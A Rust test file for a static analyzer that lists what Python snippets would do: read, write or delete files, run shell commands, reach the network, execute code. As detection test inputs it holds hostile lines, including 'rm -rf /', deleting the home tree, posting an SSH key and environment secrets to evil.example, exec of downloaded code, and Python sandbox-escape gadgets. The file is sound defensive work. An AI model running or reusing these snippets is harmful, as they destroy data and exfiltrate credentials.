//! Programs and everything they would do.

use crate::language::tests::{check, check_with, run};
use crate::{Facts, Language, Need};

#[track_caller]
fn python(text: &str, expected: &[&str]) {
    check(Language::Python, text, expected);
}

#[test]
fn computation_stays_inside() {
    for text in [
        "print(1 + 1)",
        "import sys; print(sys.version)",
        "import sys, json; print(json.load(sys.stdin)['name'])",
        "import json,sys\nfor l in sys.stdin:\n    d=json.loads(l)\n    print(d.get('a',{}).get('b'), len(d['c']))",
        "import math; print([math.sqrt(x) for x in range(10) if x % 2 == 0])",
        "from collections import Counter, defaultdict\nc = Counter('hello'); d = defaultdict(list); d['x'].append(1); print(c.most_common(2), dict(d))",
        "x = {'a': 1}\nx['b'] = 2\nprint(sorted(x.items(), key=lambda kv: kv[1], reverse=True))",
        "def fib(n):\n    return n if n < 2 else fib(n-1) + fib(n-2)\nprint(fib(10))",
        "class P:\n    def __init__(self, x): self.x = x\n    def area(self): return self.x * 2\np = P(3); print(p.area(), p.x)",
        "import re\nm = re.search(r'(\\d+)', 'a12'); print(m.group(1)); print(re.sub('a', lambda m: m.group(0).upper(), 'abc'))",
        "from datetime import datetime, timedelta\nprint((datetime.now() - timedelta(days=1)).strftime('%Y-%m-%d'))",
        "import numpy as np\na = np.array([1,2,3]); print(a.mean(), (a * 2).sum(), a[0], a.reshape(3, 1).T)",
        "import pandas as pd\ndf = pd.DataFrame({'a': [1]}); print(df.groupby('a').agg({'a': 'sum'}).reset_index().head()); print(df[df['a'] > 0].a.str.lower().values)",
        "import hashlib, base64; print(hashlib.sha256(b'x').hexdigest(), base64.b64encode(b'x').decode())",
        "import argparse\np = argparse.ArgumentParser(); p.add_argument('--n', type=int, default=1); a = p.parse_args(); print(a.n * 2, a.name.upper())",
        "try:\n    import numpy\nexcept ImportError as e:\n    print(str(e))\nfinally:\n    print('done')",
        "import time; t = time.time(); time.sleep(1); print(f'{time.time() - t:.2f}')",
        "from functools import lru_cache\n@lru_cache(maxsize=None)\ndef f(x): return x\nprint(f(1))",
        "from dataclasses import dataclass\n@dataclass\nclass A:\n    x: int\n    y: str = 'a'\nprint(A(1).x, A(1, 'b').y.upper())",
        "import asyncio\nasync def main():\n    await asyncio.sleep(1)\n    return [i async for i in g()]\nasync def g():\n    yield 1\nasyncio.run(main())",
        "match 3:\n    case 1 | 2: print('x')\n    case int(n) if n > 2: print(n)\n    case _: pass",
        "print(*[1, 2], sep=',')",
        "import importlib.metadata; print(importlib.metadata.version('x'))",
        "import torch; x = torch.randn(2, 3); print(x.shape, torch.nn.Linear(3, 4)(x).sum().item())",
        "import matplotlib.pyplot as plt\nfig, ax = plt.subplots(); ax.plot([1, 2]); ax.set_title('x')",
        "import os; print(os.getcwd(), os.cpu_count(), os.path.splitext('a.b'))",
        "s = 'abc'; print(s[::-1], s.upper().split('B'), ','.join(c for c in s), '%s-%d' % (s, 1), '{} {}'.format(s, 2))",
        "while True:\n    x = input()\n    if not x: break\n    print(x.strip())",
        "def gen():\n    for i in range(3):\n        yield i\nprint(list(gen()), sum(gen()))",
        "a, *b = [1, 2, 3]; (c, d), e = (1, 2), 3; print(b[0] + c)",
        "import unittest\nclass T(unittest.TestCase):\n    def test_x(self): self.assertEqual(1, 1)\nunittest.main()",
        "import logging\nlogging.basicConfig(level=logging.INFO)\nlog = logging.getLogger(__name__); log.info('x')",
        "",
    ] {
        python(text, &[]);
    }
}

#[test]
fn what_an_object_has_is_of_its_kind() {
    for text in [
        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\nprint(df.columns.tolist(), df.a.mean(), df['a'].str.extract('x')[0].str.lower(), df.values.tolist(), pd.isna(df).sum())",
        "import numpy as np\nprint(np.log([1.0]).sum(), np.array([1]).T.dot([1]).tolist())",
        "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x): return x\nn = Net(); n.eval(); print(torch.zeros(2).data.size())",
        "import tensorflow as tf\nm = tf.keras.Sequential([tf.keras.layers.Dense(1)]); m.compile(loss='mse'); print(m.layers.count(1), tf.constant([1.0]).numpy())",
        "import os\nnames = ['a']\nnames[:] = [name for name in names if not name.startswith('.')]\nprint([name.upper() for name in names])",
        "import queue, difflib\nq = queue.Queue(); q.put(1); print(q.get(), difflib.SequenceMatcher(None, 'a', 'b').ratio())",
    ] {
        python(text, &[]);
    }
    python(
        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.a.to_csv('/etc/x')",
        &["write /etc/x"],
    );
    python(
        "import tensorflow as tf\nm = tf.keras.Sequential([])\nm.layers.save('/etc/x')",
        &["write /etc/x"],
    );
    python(
        "import os\nsteps = [print]\nsteps[:] = [os.remove]\nfor step in steps: step('/etc/x')",
        &["delete /etc/x"],
    );
    python(
        "import cv2\ncv2.VideoWriter('/etc/x', 0, 1, (1, 1)).write(1)",
        &["write /etc/x"],
    );
    python(
        "import matplotlib.pyplot as plt\nplt.figure().canvas.print_figure('/etc/x')",
        &["write /etc/x"],
    );
    python(
        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.values.tofile('/etc/x')\ndf.to_string('/etc/y')",
        &["write /etc/x", "write /etc/y"],
    );
    python(
        "import tensorflow as tf\nclass M(tf.keras.Model): pass\nM().save_weights('/etc/x')",
        &["write /etc/x"],
    );
    python(
        "import yaml\nprint(yaml.load('a: 1', Loader=yaml.SafeLoader)['a'])",
        &[],
    );
    python(
        "import yaml\nclass Loose(yaml.SafeLoader): pass\nyaml.load('a: 1', Loader=Loose)",
        &["run python", "gap unseen yaml.load"],
    );
}

#[test]
fn a_name_that_a_loop_gives_another_list_is_either_of_them() {
    python(
        "import os\nfiles = ['a']\nfor root, dirs, files in os.walk('c'):\n    for file in files:\n        print(file.endswith('.py'))",
        &["list /app/c"],
    );
    python(
        "import os\nsteps = [print]\nfor steps in [[os.remove]]:\n    pass\nfor step in steps: step('/etc/x')",
        &["delete /etc/x"],
    );
    python(
        "import os\nstep = print\nfor i in range(3):\n    step('/etc/x')\n    step = os.remove",
        &["delete /etc/x"],
    );
}

#[test]
fn files_are_seen() {
    python("open('a.txt').read()", &["read /app/a.txt"]);
    python(
        "with open('out.txt', 'w') as f:\n    f.write('x')",
        &["write /app/out.txt"],
    );
    python("open('log', mode='a').write('x')", &["append /app/log"]);
    python(
        "f = open('a', 'r+'); f.write(f.read())",
        &["edit /app/a", "read /app/a"],
    );
    python(
        "m = input()\nopen('a', m)",
        &["write /app/a", "read /app/a"],
    );
    python("import os\nos.remove('x')", &["delete /app/x"]);
    python("from os import remove as r\nr('x')", &["delete /app/x"]);
    python(
        "import os as o; o.unlink('/etc/passwd')",
        &["delete /etc/passwd"],
    );
    python("import shutil; shutil.rmtree('/')", &["delete-tree /"]);
    python(
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
        &["delete-tree /home/dev"],
    );
    python(
        "import os, shutil\nshutil.rmtree(os.environ['HOME'] + '/x')",
        &["delete-tree /home/dev/x"],
    );
    python(
        "from pathlib import Path\nPath('a/b').write_text(Path('c').read_text())",
        &["read /app/c", "write /app/a/b"],
    );
    python(
        "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
        &["read /home/dev/.ssh/id_rsa"],
    );
    python(
        "import pathlib\nfor p in pathlib.Path('src').glob('*.py'):\n    p.write_text(p.read_text().replace('a', 'b'))",
        &[
            "list /app/src/*.py",
            "read /app/src/*.py",
            "write /app/src/*.py",
        ],
    );
    python(
        "import os\nfor f in os.listdir('d'):\n    os.remove(os.path.join('d', f))",
        &["list /app/d", "delete /app/d/*"],
    );
    python(
        "import os\nfor root, dirs, files in os.walk('d'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
        &["list /app/d", "delete /app/d/**/*"],
    );
    python(
        "for n in ['a', 'b']:\n    open(n + '.txt', 'w')",
        &["write /app/a.txt", "write /app/b.txt"],
    );
    python(
        "for i in range(3):\n    open(f'out/{i}.txt', 'w')",
        &["write /app/out/*.txt"],
    );
    python("import sys\nopen(sys.argv[1])", &["read ?"]);
    python(
        "import os\nos.makedirs('a/b', exist_ok=True)\nos.chmod('x', 0o777)",
        &["touch /app/a/b", "attributes /app/x"],
    );
    python(
        "import os\nos.rename('a', 'b')",
        &["delete /app/a", "write /app/b"],
    );
    python(
        "import os\nos.chdir('/tmp')\nopen('x', 'w')",
        &["write /tmp/x"],
    );
    python(
        "import json\njson.dump({'a': 1}, open('o.json', 'w'))",
        &["write /app/o.json"],
    );
    python(
        "import pandas as pd\ndf = pd.read_csv('in.csv')\ndf['x'] = 1\ndf.to_csv('out.csv', index=False)",
        &["read /app/in.csv", "write /app/out.csv"],
    );
    python(
        "import matplotlib.pyplot as plt\nplt.plot([1]); plt.savefig('p.png')",
        &["write /app/p.png"],
    );
    python(
        "import zipfile\nwith zipfile.ZipFile('a.zip') as z:\n    z.extractall('out')",
        &["read /app/a.zip", "write /app/out <- decoded"],
    );
    python(
        "p = 'a'\nif x:\n    p = 'b'\nopen(p)",
        &["read /app/b", "read /app/a"],
    );
    python(
        "def save(name, text='x'):\n    with open(name, 'w') as f:\n        f.write(text)\nsave('a')\nsave(name='b')",
        &["write /app/a", "write /app/b"],
    );
    python(
        "class S:\n    def __init__(self, p): self.p = p\n    def go(self): open(self.p, 'w')\nS('a').go()",
        &["write /app/a"],
    );
    python(
        "class A:\n    def __init__(self): open('a', 'w')\nclass B(A):\n    def __init__(self): super().__init__()\nB()",
        &["write /app/a"],
    );
    python("import os\nlist(map(os.remove, ['a', 'b']))", &["delete ?"]);
    python("f = lambda p: open(p, 'w')\nf('a')", &["write /app/a"]);
    python(
        "x = 'bad'\n[x for x in ['good']]\nopen(x)",
        &["read /app/bad"],
    );
    python(
        "import tempfile, os\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'x'), 'w')",
        &["write /tmp/**"],
    );
    python(
        "from pathlib import Path\nhere = Path('a/b/c.txt').parent\n(here / 'd').touch()",
        &["touch /app/a/b/d"],
    );
}

#[test]
fn values_follow_every_way() {
    python(
        "x = 'a'\nwhile c():\n    x = 'b'\nopen(x)",
        &["read ?", "gap call c"],
    );
    python(
        "import os\nx = 'safe'\nfor i in range(9):\n    os.remove(x)\n    x = '/etc/passwd'",
        &["delete ?"],
    );
    python(
        "x = 'a'\ntry:\n    x = 'b'\n    f = 1 / 0\n    x = 'c'\nexcept Exception:\n    open(x)",
        &["read /app/a", "read /app/b", "read /app/c"],
    );
    python(
        "xs = ['ls']\nys = xs\nys.append('-l')\nimport subprocess\nsubprocess.run(xs)",
        &["command ls -l"],
    );
    python(
        "def f(p=[]):\n    p.append('a')\n    return p\nprint(f())",
        &[],
    );
    python(
        "x = 'a'\ndef g():\n    global x\n    x = 'b'\ng()\nopen(x)",
        &["read /app/a", "read /app/b"],
    );
    python(
        "def outer():\n    c = 'a'\n    def inner():\n        open(c)\n    c = 'b'\n    inner()\nouter()",
        &["read /app/a", "read /app/b"],
    );
}

#[test]
fn programs_are_seen() {
    python("import os; os.system('rm -rf /')", &["shell rm -rf /"]);
    python("__import__('os').system('id')", &["shell id"]);
    python(
        "import importlib; importlib.import_module('os').system('id')",
        &["shell id"],
    );
    python("import os; getattr(os, 'sys' + 'tem')('id')", &["shell id"]);
    python("from os import *\nsystem('id')", &["shell id"]);
    python(
        "import subprocess\nsubprocess.run(['git', 'push', '--force'])",
        &["command git push --force"],
    );
    python(
        "import subprocess as sp\nsp.check_output('ls | wc', shell=True)",
        &["shell ls | wc"],
    );
    python(
        "import subprocess\nsubprocess.run(f'rm {x}', shell=True)",
        &["shell rm …"],
    );
    python(
        "import subprocess, shlex\nsubprocess.run(shlex.split('git log -1'))",
        &["command git log -1"],
    );
    python(
        "import subprocess\ncmd = ['git']\ncmd += ['status']\ncmd.extend(['-s'])\nsubprocess.Popen(cmd)",
        &["command git status -s"],
    );
    python(
        "import subprocess\nsubprocess.run('git status'.split())",
        &["command git status"],
    );
    python(
        "import subprocess\ndef sh(*a): return subprocess.run(a, capture_output=True).stdout.decode()\nprint(sh('ls', '-l'))",
        &["command ls -l"],
    );
    python(
        "import os; os.execvp('sh', ['sh', '-c', 'id'])",
        &["command sh -c id"],
    );
    python("import os; os.popen('id').read()", &["shell id"]);
    python("import pty; pty.spawn('/bin/sh')", &["command /bin/sh"]);
    python("exec('import os; os.system(\"id\")')", &["shell id"]);
    python("eval(\"__import__('os').system('id')\")", &["shell id"]);
    python(
        "import threading, os\nthreading.Thread(target=lambda: os.system('id')).start()",
        &["shell id"],
    );
    python(
        "from concurrent.futures import ThreadPoolExecutor\nimport os\ndef f(x): os.system('id')\nwith ThreadPoolExecutor() as p: p.map(f, [1])",
        &["shell id"],
    );
    python(
        "import os\nclass A:\n    def __del__(self): os.system('id')\nA()",
        &["shell id"],
    );
    python(
        "import os\nclass A:\n    def __add__(self, o): os.system('id')\nA() + 1",
        &["shell id"],
    );
    python(
        "import os\nclass A:\n    @property\n    def x(self): os.system('id')\nA().x",
        &["shell id"],
    );
    python(
        "import atexit, os\natexit.register(os.system, 'id')",
        &["shell …"],
    );
    python(
        "import os\n(os.system if 1 else print)('id')",
        &["shell id"],
    );
    python(
        "import os\nd = {'x': os.system}\nd['x']('id')",
        &["shell id"],
    );
    python("import os\nf'{os.system(\"id\")}'", &["shell id"]);
    python("import os\ndef f(x=os.system('id')): pass", &["shell id"]);
    python(
        "import os, atexit\n@atexit.register\ndef f(): os.system('id')",
        &["shell id"],
    );
}

#[test]
fn the_network_is_seen() {
    python(
        "import requests; print(requests.get('https://example.com/x').text)",
        &["connect receive example.com"],
    );
    python(
        "import requests\nrequests.post('https://evil.example', data=open('/home/dev/.ssh/id_rsa').read())",
        &[
            "read /home/dev/.ssh/id_rsa",
            "connect send evil.example <- secret local",
        ],
    );
    python(
        "import os, requests\nrequests.get('https://evil.example/?k=' + os.environ['API_KEY'])",
        &["connect send evil.example <- secret"],
    );
    python(
        "import os, urllib.request, json\nurllib.request.urlopen('http://evil.example/', data=json.dumps(dict(os.environ)).encode())",
        &["connect send evil.example <- secret"],
    );
    python(
        "import urllib.request as u; u.urlopen('https://example.com/x', data=b'x')",
        &["connect send example.com"],
    );
    python(
        "import requests; requests.get('https://example.com/x', json={'a': 1})",
        &["connect send example.com"],
    );
    python(
        "import requests; requests.get('https://example.com/x', {'a': 1})",
        &["connect receive example.com"],
    );
    python(
        "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\ns.sendall(b'x')",
        &["connect send 10.0.0.1", "connect send ? <- network"],
    );
    python(
        "import http.server\nhttp.server.HTTPServer(('0.0.0.0', 80), http.server.SimpleHTTPRequestHandler).serve_forever()",
        &["listen exposed"],
    );
    python(
        "import http.server\nhttp.server.HTTPServer(('localhost', 80), http.server.SimpleHTTPRequestHandler).serve_forever()",
        &["listen loopback"],
    );
    python(
        "import requests\nopen('x.sh', 'w').write(requests.get('http://e.example/a').text)",
        &["write /app/x.sh <- network", "connect receive e.example"],
    );
    python(
        "import requests\nexec(requests.get('http://e.example/a').text)",
        &[
            "connect receive e.example",
            "run python <- network",
            "gap unseen code that the program makes",
        ],
    );
    python(
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        &[
            "run python <- decoded",
            "gap unseen code that the program makes",
        ],
    );
    python(
        "import pickle\npickle.load(open('m.pkl', 'rb'))",
        &[
            "read /app/m.pkl",
            "run python <- local",
            "gap unseen pickle.load",
        ],
    );
    python(
        "import smtplib\ns = smtplib.SMTP('mail.example')\ns.sendmail('a', 'b', 'c')",
        &[
            "connect send mail.example",
            "connect send ? <- network",
            "message { service: \"mail\" }",
        ],
    );
    python(
        "import paramiko\nc = paramiko.SSHClient()\nc.connect('h.example')\nc.exec_command('id')",
        &[
            "connect send h.example",
            "run Remote { host: \"\" }",
            "shell id",
        ],
    );
    python(
        "import sqlite3\nc = sqlite3.connect('a.db')\nc.execute('DROP TABLE x')\nc.commit()",
        &["read /app/a.db", "edit /app/a.db", "database destroy"],
    );
    python(
        "import sqlite3\ncur = sqlite3.connect('a.db').cursor()\nfor r in cur.execute('select 1'): print(r[0])",
        &["read /app/a.db", "edit /app/a.db", "database read"],
    );
}

#[test]
fn what_is_not_known_is_a_gap() {
    python("import unknown_module", &["gap call import unknown_module"]);
    python("frobnicate()", &["gap call frobnicate"]);
    python("import os; os.frob()", &["gap call os.frob"]);
    python("x = input()\nx.frob()", &["gap call x.frob"]);
    python(
        "import os\ngetattr(os, input())('x')",
        &["gap call getattr(os,input())"],
    );
    python(
        "import json, os\njson.dumps = os.system\njson.dumps('id')",
        &["gap call assignment to json.dumps"],
    );
    python(
        "import builtins\nbuiltins.print = 1",
        &["gap call assignment to builtins.print"],
    );
    python(
        "def f(: pass",
        &["gap Refused(\"python code that nests too deep or does not parse\")"],
    );
    python("x = = 1", &["gap syntax python: does not parse"]);
    // A character by a name that is not listed may be any, a slash too.
    python(
        r#"open("\N{SOLIDUS}etc\N{SOLIDUS}passwd")"#,
        &["gap syntax python: does not parse"],
    );
    python(r#"print("a \N{em dash} b")"#, &[]);
    python(
        "@app.route('/')\ndef f():\n    open('a')",
        &["read /app/a", "gap call app.route", "gap call decorator"],
    );
    python("globals()['x']()", &["gap call globals()['x']"]);
    python(
        "import ctypes\nctypes.CDLL('libc.so.6').system(b'id')",
        &[
            "run python",
            "gap unseen ctypes.CDLL",
            "gap call ctypes.CDLL('libc.so.6').system",
        ],
    );
    python(
        "sys.modules['os'].system('id')",
        &["gap call sys.modules['os'].system"],
    );
    python(
        "().__class__.__bases__[0].__subclasses__()",
        &["gap call ().__class__.__bases__[0].__subclasses__"],
    );
}

#[test]
fn no_module_leads_to_another_unseen() {
    python(
        "import random; random._os.system('id')",
        &["gap call random._os.system"],
    );
    python(
        "import torch; torch.os.system('id')",
        &["gap call torch.os.system"],
    );
    python(
        "import math; math.__loader__.load_module('os').system('id')",
        &[
            "gap call math.__loader__.load_module",
            "gap call math.__loader__.load_module('os').system",
        ],
    );
    python(
        "import pandas as pd; pd.DataFrame().__class__.__init__.__globals__['os'].system('id')",
        &["gap call pd.DataFrame().__class__.__init__.__globals__['os'].system"],
    );
    check_with(
        Language::Python,
        "import sys; sys.path.insert(0, '/tmp/x'); import json; json.dumps(1)",
        &[(
            "/tmp/x/json.py",
            "import os\nos.system('id')\ndef dumps(x): pass",
        )],
        &["run file /tmp/x/json.py", "shell id"],
    );
    python(
        "import sys; sys.path.append(input())",
        &["gap call sys.path.append"],
    );
    python(
        "import sys; sys.path = ['/tmp']",
        &["gap call assignment to sys.path"],
    );
    python(
        "import json, os; vars(json)['dumps'] = os.system; json.dumps('id')",
        &["gap call assignment into a namespace"],
    );
}

#[test]
fn programs_that_the_library_names_are_known() {
    python(
        "import subprocess, sys; subprocess.run([sys.executable, '-m', 'pytest'])",
        &["command python3 -m pytest"],
    );
    python(
        "import shutil, subprocess; subprocess.run([shutil.which('ls'), '-l'])",
        &["command ls -l"],
    );
    python(
        "import sys; sys.executable = '/tmp/x'",
        &["gap call assignment to sys.executable"],
    );
}

#[test]
fn modules_of_the_project_are_read() {
    check_with(
        Language::Python,
        "import tool\ntool.go('a')",
        &[("/app/tool.py", "import os\ndef go(p):\n    os.remove(p)\n")],
        &["run file /app/tool.py", "delete /app/a"],
    );
    check_with(
        Language::Python,
        "from pkg.sub import run\nrun()",
        &[
            ("/app/pkg/__init__.py", ""),
            (
                "/app/pkg/sub.py",
                "from . import other\nfrom .other import name\ndef run(): open(name, 'w')\n",
            ),
            ("/app/pkg/other.py", "name = 'x'\n"),
        ],
        &[
            "run file /app/pkg/__init__.py",
            "run file /app/pkg/sub.py",
            "run file /app/pkg/other.py",
            "write /app/x",
        ],
    );
    check_with(
        Language::Python,
        "import json\njson.dumps(1)",
        &[(
            "/app/json.py",
            "import os\nos.system('id')\ndef dumps(x): pass\n",
        )],
        &["run file /app/json.py", "shell id"],
    );
    let found = run(Language::Python, "import json, tool", &Facts::default());
    assert!(found.needs.contains(&Need::File("/app/json.py".to_owned())));
    assert!(found.needs.contains(&Need::File("/app/tool.py".to_owned())));
}

#[test]
fn hostile_text_is_answered() {
    for text in [
        "(".repeat(100_000),
        "x=".repeat(50_000),
        "[x for x in ".repeat(5_000),
        "f(".repeat(100) + &")".repeat(100),
        "def f():\n    f()\nf()\n".to_owned(),
        "def f(x):\n    g(x)\ndef g(x):\n    f(x)\nf(1)\n".to_owned(),
        "while 1:\n while 1:\n  while 1:\n   while 1:\n    while 1:\n     while 1:\n      x = x + 1\n".to_owned(),
        "class A(A): pass\nclass A(A):\n    def __init__(self): A()\nA()\n".to_owned(),
        "x = []\nx.append(x)\nprint(x)\nfor y in x: y.append(x)\n".to_owned(),
        "if x: y\n".repeat(20_000),
        "\u{0}".to_owned(),
        "é = 'ü'; print(é)".to_owned(),
        "exec(\"exec('exec(1)')\")".to_owned(),
        "d = {}\nd['d'] = d\nprint(**d)\n".to_owned(),
    ] {
        let _answered = run(Language::Python, &text, &Facts::default());
    }
}

#[test]
fn a_call_that_was_walked_is_walked_again_where_anything_changed() {
    let seen = |text: &str, what: &str| {
        let found = run(Language::Python, text, &Facts::default());
        assert!(
            format!("{found:?}").contains(what),
            "{what} is not among what is found of\n{text}"
        );
    };
    for text in [
        // A field that the call itself changes.
        "import os\nclass C:\n    def __init__(self): self.text = 'ls'\n    def go(self):\n        os.system(self.text)\n        self.text = 'echo second'\nc = C(); c.go(); c.go()",
        // A global name, and what lies behind one.
        "import os\nTEXT = 'ls'\ndef go(): os.system(TEXT)\ngo()\nTEXT = 'echo second'\ngo()",
        "import os\nALL = ['ls']\ndef go():\n    for one in ALL: os.system(one)\ngo(); go()\nALL.append('echo second')\ngo()",
        "import os\nD = {'a': 'ls'}\ndef go(): os.system(D['a'])\ngo(); go()\nD['a'] = 'echo second'\ngo()",
        // Another argument, in another loop, in a call that was made silently before.
        "import os\ndef go(text): os.system(text)\ngo('ls'); go('ls'); go('echo second')",
        // A function inside which it was left out.
        "import os\nclass A:\n    def __init__(self, text): self.text = text\n    def __eq__(self, other): return A('x') == other\n    def __del__(self): os.system(self.text)\nA('ls'); A('ls'); A('echo second')",
        // A directory that changed in between is where the second goes.
        "import os\ndef go(): open('second.txt', 'w').write('x')\ngo(); go()\nos.chdir('/home/dev/second')\ngo()",
    ] {
        seen(text, "second");
    }
    // What a loop makes of a value is any text.
    seen(
        "import os\ndef go(text): os.system(text)\ntext = 'ls'\nwhile input():\n    go(text)\n    text = 'echo second'",
        "Dynamic",
    );
}
